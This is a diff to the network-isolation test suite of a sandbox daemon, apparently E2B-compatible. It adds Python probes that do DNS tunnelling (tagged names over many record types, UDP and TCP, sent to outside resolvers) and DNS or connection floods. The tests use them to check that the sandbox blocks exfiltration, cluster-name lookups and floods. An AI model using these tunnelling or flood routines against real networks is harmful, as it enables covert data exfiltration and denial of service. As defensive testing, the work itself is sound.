@@ -67,7 +67,7 @@ def probe(kind, *a):
         server = a[0]
         if server == "-":
             server = next(l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver"))
-        qtype = {"A": 1, "AAAA": 28, "TXT": 16, "MX": 15}[a[2]]
+        qtype = {"A": 1, "AAAA": 28, "TXT": 16, "MX": 15, "SRV": 33, "SOA": 6, "PTR": 12}[a[2]]
         q = b"\xab\xcd\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
         q += b"".join(bytes([len(p)]) + p.encode() for p in a[3].split(".")) + b"\x00" + qtype.to_bytes(2, "big") + b"\x00\x01"
         if a[1] == "udp":
@@ -80,6 +80,65 @@ def probe(kind, *a):
             s.sendall(len(q).to_bytes(2, "big") + q)
             r = s.recv(514)[2:]
         return "rcode %d answers %d" % (r[3] & 15, int.from_bytes(r[6:8], "big"))
+    if kind == "tunnel":  # names a[0]-N.a[1] for N < a[2], of many types, over UDP and TCP, to the sandbox's resolver and to a[3:]
+        import random, select, time
+        mine = next((l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")), "169.254.0.53")
+        servers = [mine] + list(a[3:])
+        types = [1, 28, 16, 15, 33, 5, 2, 6, 12, 257, 65, 255]  # A AAAA TXT MX SRV CNAME NS SOA PTR CAA HTTPS ANY
+        def query(name, qtype):
+            q = random.randbytes(2) + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
+            return q + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00" + qtype.to_bytes(2, "big") + b"\x00\x01"
+        names = ["%s-%d" % (a[0], i) + ("" if a[1] == "-" else "." + a[1]) for i in range(int(a[2]))]
+        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        sent = answered = 0
+        for i, name in enumerate(names):
+            for server in servers:
+                for qtype in types:
+                    try:
+                        udp.sendto(query(name, qtype), (server, 53)); sent += 1
+                    except OSError:  # no route: a sandbox without a network
+                        pass
+                # and over TCP, one type a name, a connection each
+                try:
+                    s = socket.create_connection((server, 53), timeout=1)
+                    q = query(name, types[i % len(types)])
+                    s.sendall(len(q).to_bytes(2, "big") + q); sent += 1
+                    if s.recv(2): answered += 1
+                    s.close()
+                except OSError:
+                    pass
+            time.sleep(0.15)  # under the rate limits: refusals are the policy's
+        end = time.time() + 2
+        while time.time() < end and select.select([udp], [], [], max(0, end - time.time()))[0]:
+            udp.recv(512); answered += 1
+        return "sent %d answered %d" % (sent, answered)
+    if kind == "flood":  # a[0] DNS queries to the sandbox's resolver and a[0] connections to 203.0.113.30:7000, all at once
+        import select, time
+        n = int(a[0])
+        mine = next(l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver"))
+        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        for i in range(n):
+            udp.sendto(i.to_bytes(2, "big") + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05flood\x04test\x00\x00\x01\x00\x01", (mine, 53))
+        answered = 0
+        while select.select([udp], [], [], 2)[0]:  # two seconds without an answer: the rest were dropped
+            udp.recv(512); answered += 1
+        conns = []
+        for i in range(n):
+            c = socket.socket(); c.setblocking(False)
+            c.connect_ex(("203.0.113.30", 7000)); conns.append(c)
+        # Connected (a byte from the banner, or refused after the
+        # handshake) or not after two quiet seconds: dropped SYNs are not.
+        reached, end = 0, time.time() + 2
+        pending = list(conns)
+        while pending and time.time() < end:
+            _, ready, _ = select.select([], pending, [], max(0, end - time.time()))
+            for c in ready:
+                pending.remove(c)
+                if c.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) in (0, 104):  # connected, or reset by the proxy
+                    reached += 1
+            if ready:
+                end = time.time() + 2
+        return "dns %d tcp %d" % (answered, reached)
     if kind == "myip":
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         s.connect(("203.0.113.1", 9))
@@ -95,7 +154,7 @@ before(async () => {
   if (skip) return
   cfgDir = mkdtempSync(join(tmpdir(), 'airlock-net-test-'))
   const cfg = join(cfgDir, 'config.json')
-  writeFileSync(cfg, JSON.stringify({ network: { dns: [labDNS] }, templates: { base: { poolSize: 1 }, 'code-interpreter-v1': { poolSize: 0 } } }))
+  writeFileSync(cfg, JSON.stringify({ network: { dns: [labDNS], localZones: ['corp.test'] }, templates: { base: { poolSize: 1 }, 'code-interpreter-v1': { poolSize: 0 } } }))
   server = await startServer(['--config', cfg])
 })
 after(async () => {
@@ -108,11 +167,12 @@ after(async () => {
 })
 
 // The host ends of sandboxes' veth pairs, and their elements in the
-// host's nftables maps.
+// host's nftables maps and their chains of limits.
 const sandboxLinks = () => execFileSync('ip', ['-o', 'link', 'show']).toString().split('\n')
   .map((l) => l.split(': ')[1]?.split('@')[0]).filter((n) => n?.startsWith('al-'))
-const sandboxElements = () => [['map', 'proxy'], ['map', 'dns_udp'], ['map', 'dns_tcp'], ['set', 'tcp_in'], ['set', 'udp_in']]
+const sandboxElements = () => [['map', 'proxy'], ['map', 'dns_udp'], ['map', 'dns_tcp'], ['set', 'tcp_in'], ['set', 'udp_in'], ['map', 'flood']]
   .flatMap(([kind, m]) => execFileSync('nft', ['list', kind, 'inet', 'airlock_v1', m]).toString().match(/"al-[0-9a-f]+"/g) ?? [])
+  .concat(execFileSync('nft', ['list', 'table', 'inet', 'airlock_v1']).toString().match(/chain flood-al-[0-9a-f]+/g) ?? [])
 // The kernel deletes an ended sandbox's namespace, and its veth pair, in
 // the background: f's answer once it stops changing, within 10 s.
 async function settled(f, want = []) {
@@ -234,42 +294,152 @@ test('denyOut by address and by name, on top of the internet', { skip }, async (
 // DNS tunnelling: code that may not reach a name encodes what it wants
 // out in the names it looks up, for whoever answers them to read. The
 // lab's DNS server writes down every name it is asked
-// (AIRLOCK_LAB_DNS_LOG): a name the policy does not allow must never get
-// there, whatever the query's type, transport or destination. With the
-// internet allowed a name is forwarded, as any resolver would: there DNS
-// is a channel out as HTTP is, which the first case shows the log sees.
-test('DNS tunnelling: a name the policy does not allow never reaches a resolver outside', { skip }, async () => {
-  const asked = () => readFileSync(process.env.AIRLOCK_LAB_DNS_LOG, 'utf8')
+// (AIRLOCK_LAB_DNS_LOG): a name the policy cannot let the sandbox reach
+// must never get there, whatever the policy's shape, the query's type,
+// transport or destination. With the internet open a name is forwarded,
+// as any resolver would: there DNS is a channel out as HTTP is, which the
+// first case shows the log sees.
+const asked = () => readFileSync(process.env.AIRLOCK_LAB_DNS_LOG, 'utf8')
+const leaked = (tag) => asked().split('\n').filter((l) => l.includes(tag))
+
+async function tunnel(sbx, tag) {
+  await probe(sbx, 'resolve', `${tag}-r.tunnel.test`)
+  // Many names, every type, UDP and TCP, to the sandbox's resolver and to
+  // the lab's DNS server and another host of the internet.
+  await expectOK(sbx, /^OK sent \d+/, 'tunnel', tag, 'tunnel.test', '8', '203.0.113.53', '198.51.100.7')
+  for (const proto of ['udp', 'tcp']) await probe(sbx, 'dns', '-', proto, 'TXT', `${tag}-t${proto}.tunnel.test`)
+}
+
+// [what, create options, names below tunnel.test forwarded, allowed.test resolves]
+const internetShapes = [
+  ['the internet', { allowInternetAccess: true }, true, true],
+  ['no network', {}, false, false],
+  ['allowOut names', { network: { allowOut: ['allowed.test', '*.cdn.test'] } }, false, true],
+  ['allowOut an address', { network: { allowOut: ['198.51.100.0/24'] } }, false, false],
+  // E2B's allowlist recipe, as e2b <= 2.45, the Python SDK and the CLI
+  // send it: allow_internet_access true on every create.
+  ["E2B's recipe: the internet, denyOut 0.0.0.0/0, allowOut names", { allowInternetAccess: true, network: { denyOut: ['0.0.0.0/0'], allowOut: ['allowed.test'] } }, false, true],
+  ['the internet, denyOut its halves, allowOut an address', { allowInternetAccess: true, network: { denyOut: ['0.0.0.0/1', '128.0.0.0/1'], allowOut: ['198.51.100.7'] } }, false, false],
+  ['denyOut *.tunnel.test on the internet', { allowInternetAccess: true, network: { denyOut: ['*.tunnel.test'] } }, false, true],
+]
+
+test('DNS tunnelling: a name the policy cannot reach never reaches a resolver outside, whatever the shape', { skip }, async () => {
   const secret = 'x' + randomBytes(8).toString('hex')
-  const cases = [
-    ['the internet', { allowInternetAccess: true }, true],
-    ['no network', {}, false],
-    ['allowOut by name', { network: { allowOut: ['allowed.test', '198.51.100.0/24'] } }, false],
-    ['denyOut *.tunnel.test on the internet', { allowInternetAccess: true, network: { denyOut: ['*.tunnel.test'] } }, false],
-  ]
-  for (const [i, [what, opts, forwarded]] of cases.entries()) {
-    const name = (n) => `${secret}-${i}-${n}.tunnel.test`
+  for (const [i, [what, opts, forwarded, resolves]] of internetShapes.entries()) {
+    const tag = `${secret}-${i}`
     const sbx = await create(opts)
     try {
-      await probe(sbx, 'resolve', name('a'))
-      let n = 0
-      for (const proto of ['udp', 'tcp']) {
-        for (const type of ['A', 'AAAA', 'TXT', 'MX']) {
-          // Through the sandbox's resolver, and straight to the lab's.
-          await probe(sbx, 'dns', '-', proto, type, name(n++))
-          await probe(sbx, 'dns', '203.0.113.53', proto, type, name(n++))
-        }
-      }
-      if (opts.allowInternetAccess || opts.network) await expectOK(sbx, /203\.0\.113\.10/, 'resolve', 'allowed.test')
-      const log = asked()
+      await tunnel(sbx, tag)
+      if (resolves) await expectOK(sbx, /203\.0\.113\.10/, 'resolve', 'allowed.test')
+      else await expectFail(sbx, 'resolve', 'allowed.test')
       if (forwarded) {
-        assert.match(log, new RegExp(`A ${name('a')}\n`), `${what}: the lab's resolver saw the name (the log works)`)
+        assert.ok(leaked(tag).length > 0, `${what}: the lab's resolver saw no name (the log works?)`)
       } else {
-        assert.ok(!log.includes(`${secret}-${i}-`), `${what}: names reached the lab's resolver:\n${log.split('\n').filter((l) => l.includes(secret)).join('\n')}`)
+        assert.deepEqual(leaked(tag), [], `${what}: names reached the lab's resolver`)
       }
     } finally {
       await sbx.kill()
     }
+  }
+})
+
+test('DNS tunnelling after updateNetwork from one shape to another', { skip }, async () => {
+  const secret = 'u' + randomBytes(8).toString('hex')
+  const body = (opts) => ({ allowInternetAccess: opts.allowInternetAccess ?? false, ...(opts.network ?? {}) })
+  const shapes = internetShapes.filter(([what]) => what !== 'no network')
+  for (const [i, [from, fromOpts]] of shapes.entries()) {
+    // Each shape to the next, and the last to the first: every shape is
+    // reached from another once.
+    const [to, toOpts, forwarded] = shapes[(i + 1) % shapes.length]
+    const sbx = await create(fromOpts)
+    try {
+      await sbx.updateNetwork(body(toOpts))
+      const tag = `${secret}-${i}`
+      await tunnel(sbx, tag)
+      if (forwarded) {
+        assert.ok(leaked(tag).length > 0, `${from} → ${to}: the lab's resolver saw no name (the log works?)`)
+      } else {
+        assert.deepEqual(leaked(tag), [], `${from} → ${to}: names reached the lab's resolver`)
+      }
+    } finally {
+      await sbx.kill()
+    }
+  }
+})
+
+test("an older SDK's allowlist (e2b 2.45: allow_internet_access on every create) opens no DNS tunnel", { skip }, async () => {
+  const { Sandbox: Old } = await import('e2b-245')
+  const tag = 'o' + randomBytes(8).toString('hex')
+  const sbx = await Old.create({ timeoutMs: 60_000, network: { denyOut: ['0.0.0.0/0'], allowOut: ['allowed.test'] } })
+  try {
+    await sbx.files.write('/home/user/probe.py', probeScript)
+    await sbx.files.write('/home/user/lab-ca.pem', readFileSync(process.env.AIRLOCK_LAB_CA, 'utf8'))
+    assert.equal((await sbx.getInfo()).allowInternetAccess, true, 'the old SDK asked for the internet')
+    await expectOK(sbx, /for allowed\.test/, 'http', 'https://allowed.test/')
+    await tunnel(sbx, tag)
+    assert.deepEqual(leaked(tag), [], 'names reached the lab\'s resolver')
+  } finally {
+    await sbx.kill()
+  }
+})
+
+// In Kubernetes the resolver's upstream is the cluster's DNS: from a
+// sandbox, SRV and TXT lookups under cluster.local would list its
+// services. Names of the host's network never leave it, whatever the
+// policy (here the internet, with allowOut naming them too).
+test("names of the host's network (cluster, search domains, local zones) never leave the host", { skip }, async () => {
+  const tag = 'z' + randomBytes(8).toString('hex')
+  const sbx = await create({ allowInternetAccess: true, network: { allowOut: ['*.cluster.local', '*.corp.test', '*.svc', '*.internal'] } })
+  try {
+    for (const zone of ['default.svc.cluster.local', 'cluster.local', 'svc', 'corp.test', 'internal', 'local', 'home.arpa', 'localhost', '-']) {
+      await expectOK(sbx, /^OK sent \d+/, 'tunnel', tag, zone, '2')
+    }
+    await expectFail(sbx, 'resolve', `${tag}.default.svc.cluster.local`)
+    for (const [type, name] of [['SRV', `_https._tcp.${tag}.default.svc.cluster.local`], ['PTR', '5.0.99.10.in-addr.arpa'],
+      ['TXT', '5.0.99.10.in-addr.arpa'], ['SOA', '10.in-addr.arpa'], ['PTR', '10.0.96.10.in-addr.arpa']]) {
+      for (const proto of ['udp', 'tcp']) await expectOK(sbx, /^OK rcode 3 answers 0$/, 'dns', '-', proto, type, name)
+    }
+    // A public name that aliases a name in the cluster: refused.
+    for (const proto of ['udp', 'tcp']) await expectOK(sbx, /^OK rcode 3 answers 0$/, 'dns', '-', proto, 'A', 'cluster-alias.test')
+    // A public name still resolves: the log sees what goes out.
+    await expectOK(sbx, /203\.0\.113\.10/, 'resolve', 'allowed.test')
+    assert.deepEqual(leaked(tag), [], "names of the host's network reached the lab's resolver")
+    assert.deepEqual(asked().split('\n').filter((l) => /\b(10|0\.99\.10|10\.0\.96\.10)\.in-addr\.arpa$/.test(l)), [], 'reverse names of private addresses reached it')
+  } finally {
+    await sbx.kill()
+  }
+})
+
+// A sandbox's DNS and connection floods cost the daemon's CPU, which no
+// cgroup is charged for: the host's nftables rules cut them at the
+// sandbox's rates before they reach its resolver and proxy. Counted from
+// inside: every query that reaches the resolver is answered, every SYN
+// that reaches the proxy's listener is connected. The rates are per hour,
+// so nothing refills during the test; the neighbour's budget is its own.
+test('DNS and connection floods are cut at the sandbox\'s rates; its neighbour is unaffected', { skip }, async () => {
+  const saved = { ...process.env }
+  const dir = mkdtempSync(join(tmpdir(), 'airlock-net-flood-'))
+  writeFileSync(join(dir, 'config.json'), JSON.stringify({ network: { dns: [labDNS], dnsRate: '10/h', connectionRate: '10/h' },
+    templates: { base: { poolSize: 0 }, 'code-interpreter-v1': { poolSize: 0 } } }))
+  const limited = await startServer(['--config', join(dir, 'config.json')])
+  const burst = 20 // twice 10/h
+  try {
+    const flooder = await create({ allowInternetAccess: true })
+    const neighbour = await create({ allowInternetAccess: true })
+    try {
+      const out = await probe(flooder, 'flood', '300')
+      const [, dns, tcp] = out.match(/^OK dns (\d+) tcp (\d+)$/) ?? assert.fail(out)
+      assert.ok(+dns > 0 && +dns <= burst + 1, `${dns} of 300 DNS queries reached the flooder's resolver, want 1 to ${burst + 1}`)
+      assert.ok(+tcp > 0 && +tcp <= burst + 1, `${tcp} of 300 connections reached the flooder's proxy, want 1 to ${burst + 1}`)
+      await expectOK(neighbour, /^OK dns 10 tcp 10$/, 'flood', '10')
+    } finally {
+      await flooder.kill()
+      await neighbour.kill()
+    }
+  } finally {
+    await limited.stop()
+    Object.assign(process.env, saved)
+    rmSync(dir, { recursive: true, force: true })
   }
 })
 
@@ -393,7 +563,7 @@ test('nothing of a sandbox network outlives the sandbox', { skip }, async () => 
   const elements = sandboxElements()
   const sbx = await create({ allowInternetAccess: true })
   assert.equal(sandboxLinks().length, links.length + 1)
-  assert.equal(sandboxElements().length, elements.length + 6)
+  assert.equal(sandboxElements().length, elements.length + 8) // 3 map and 3 set elements, its flood map element and chain
   await sbx.kill()
   assert.deepEqual(sandboxElements(), elements)
   assert.deepEqual(await settled(sandboxLinks, links), links)
